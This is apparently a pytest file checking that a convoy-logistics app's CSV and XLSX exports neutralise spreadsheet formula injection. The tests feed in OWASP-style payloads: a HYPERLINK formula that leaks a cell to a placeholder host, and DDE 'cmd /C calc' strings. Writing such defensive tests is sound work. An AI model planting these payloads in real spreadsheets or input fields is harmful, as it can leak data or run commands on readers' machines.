"""Every sheet Konvoi writes is opened as its reader opens it (the csv module, openpyxl): text
that starts like a formula arrives behind a single quote and as text, never as a formula, in
the manifest, the export sheet, the donor report and the donor report behind its shared link;
numbers stay numbers."""

import csv
import io
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlsplit

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from app.core.spreadsheets import neutral
from tests import factories
from tests.convoys import builders as b
from tests.factories import API

# What OWASP's guidance names, each a way a spreadsheet starts a formula.
HYPERLINK = '=HYPERLINK("https://example.invalid/?leak="&A1;"Open")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"
HOSTILE = (HYPERLINK, COMMAND, AT_SUM, MINUS, TAB, RETURN)
UKRAINIAN = "=СУМ(1;1)"  # Ukrainian names are checked to be Cyrillic


def _convoy(client: TestClient) -> b.Planned:
    """A bus whose cargo lines are described by each hostile text in turn."""
    destination = factories.destination(client, name=MINUS, name_uk=UKRAINIAN)
    planned = b.planned_convoy(client, destination=destination)
    for text in HOSTILE:
        factories.cargo_line(
            client,
            planned.vehicles[0]["id"],
            description=text,
            description_uk=UKRAINIAN,
            marks=COMMAND,
            weight_kg=120,
        )
    return planned


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def _assert_neutral_csv(rows: list[list[str]], expected: tuple[str, ...]) -> None:
    cells = _cells(rows)
    for text in expected:
        assert "'" + text in cells, (text, rows)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], rows


def _sheet(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    sheet = book.active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row]


def _get(client: TestClient, planned: b.Planned, kind: str, fmt: str) -> bytes:
    response = client.get(f"{API}/convoys/{planned.id}/documents/{kind}", params={"format": fmt})
    assert response.status_code == 200, response.text
    content: bytes = response.content
    return content


def test_the_manifest_and_the_export_sheet_write_formula_text_as_text(
    client: TestClient,
) -> None:
    planned = _convoy(client)
    for kind in ("manifest", "export_sheet"):
        _assert_neutral_csv(_csv(_get(client, planned, kind, "csv")), (*HOSTILE, MINUS))
        cells = _sheet(_get(client, planned, kind, "xlsx"))
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = {c.value for c in cells if isinstance(c.value, str)}
        for text in HOSTILE:
            # XML reads a carriage return back as a line feed.
            assert "'" + text.replace("\r", "\n") in texts, (kind, text)
        for cell in cells:
            if isinstance(cell.value, str) and cell.value.startswith("'"):
                assert cell.data_type == "s", cell.coordinate
        # The weights are numbers a sheet can add up, not text.
        weights = [c.value for c in cells if c.value == 120]
        assert len(weights) >= len(HOSTILE) and all(isinstance(w, int) for w in weights)


def test_the_donor_report_writes_a_receivers_formula_as_text_also_behind_the_link(
    client: TestClient, anonymous: TestClient
) -> None:
    start = datetime.now(UTC).replace(minute=0, second=0, microsecond=0) - 2 * b.H
    planned = b.planned_convoy(client, start=start)
    assert b.post(client, f"/convoys/{planned.id}/depart").status_code == 200
    bus = planned.vehicles[0]
    handover = {
        "item_id": bus["id"],
        "receiver_name": HYPERLINK,
        "receiver_role": AT_SUM,
        "handed_over_on": datetime.now(UTC).date().isoformat(),
        "place": MINUS,
    }
    assert b.post(client, f"/convoys/{planned.id}/handovers", handover).status_code == 201
    report = client.get(f"{API}/donors/{bus['donor_id']}/report", params={"format": "csv"})
    assert report.status_code == 200, report.text
    rows = _csv(report.content)
    (received_by,) = [row[-1] for row in rows[1:] if bus["vin"] in row]
    assert received_by.startswith("'" + HYPERLINK)
    _assert_neutral_csv(rows, ())
    shared = client.post(f"{API}/donors/{bus['donor_id']}/report-links")
    assert shared.status_code == 201, shared.text
    link = urlsplit(shared.json()["url"]).path
    behind_link = anonymous.get(link, params={"format": "csv"})
    assert behind_link.status_code == 200, behind_link.text
    assert _csv(behind_link.content) == rows


def test_only_text_is_neutralised_numbers_and_dates_are_kept() -> None:
    assert neutral(-5) == -5
    assert neutral(-2.5) == -2.5
    assert neutral("-5") == "'-5"
    assert neutral("Pallet 1/2") == "Pallet 1/2"
    assert neutral(None) is None
